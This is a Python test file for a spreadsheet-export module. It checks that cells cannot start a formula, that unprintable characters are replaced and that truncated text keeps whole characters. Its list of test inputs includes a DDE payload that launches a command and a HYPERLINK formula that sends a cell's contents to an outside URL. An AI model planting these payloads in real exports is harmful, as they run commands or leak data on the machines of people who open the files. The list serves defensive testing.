"""No cell of an exported table can start a formula, and nothing else of a text is lost."""

from __future__ import annotations

import re

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from sim.report.export.cells import cut, guarded, guarded_frame
from sim.report.letters import plain

# After OWASP's page on CSV injection, and what spreadsheets of other countries separate cells by.
ATTACKS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    '"=1+1',
    "＝1+1",
    "＋1+1",
    "＠SUM(1)",
    "pay;=1+1",
    'pay";=1+1',
    'pay;"=1+1',
    "pay\t=1+1",
    "pay\r\n=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?x="&A1,"label")',
    "-2+3+cmd|' /C calc'!A0",
]
STARTS = re.compile(r"^[\s\"']*[=+\-@＝＋－＠]")


def cells_in(text: str) -> list[str]:
    """The cells that a spreadsheet may find in a text: whole, or parted at semicolons, tabs and ends of lines."""
    return [text, *re.split(r"[;\t\r\n]", text)]


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_starts_a_formula(attack: str) -> None:
    for cell in cells_in(guarded(attack)):
        assert cell.startswith("'") or not STARTS.match(cell)


@given(st.text(alphabet="=+-@;'\"\t\r\n a1，＝", max_size=12))
def test_whatever_signs_stand_together(text: str) -> None:
    for cell in cells_in(guarded(text)):
        assert cell.startswith("'") or not STARTS.match(cell)


@pytest.mark.parametrize("text", ["Pay on time", "拨款及时", "1-2 times", "a=b", "it's 5 - 3", "x; y", ""])
def test_harmless_texts_stay(text: str) -> None:
    assert guarded(text) == text


def test_numbers_and_gaps_of_a_table_stay_and_names_are_guarded() -> None:
    table = pd.DataFrame({"=x": [-1.5, float("nan")], "flag": [True, False], "text": ["-x", None]})
    safe = guarded_frame(table)
    assert list(safe.columns) == ["'=x", "flag", "text"]
    assert safe["'=x"].iloc[0] == -1.5
    assert safe["'=x"].isna().tolist() == [False, True]
    assert safe["flag"].tolist() == [True, False]
    assert safe["text"].iloc[0] == "'-x"
    assert safe["text"].isna().tolist() == [False, True]


def test_signs_that_no_file_can_hold_are_replaced() -> None:
    assert plain("a\ud800b\x07c\u202ed") == "a?b cd"


def test_a_cut_text_keeps_whole_letters() -> None:
    assert cut("社区", 6) == "社区"
    assert cut("社区治理", 10) == "社区…"
    assert len(cut("x" * 300, 120).encode()) == 120
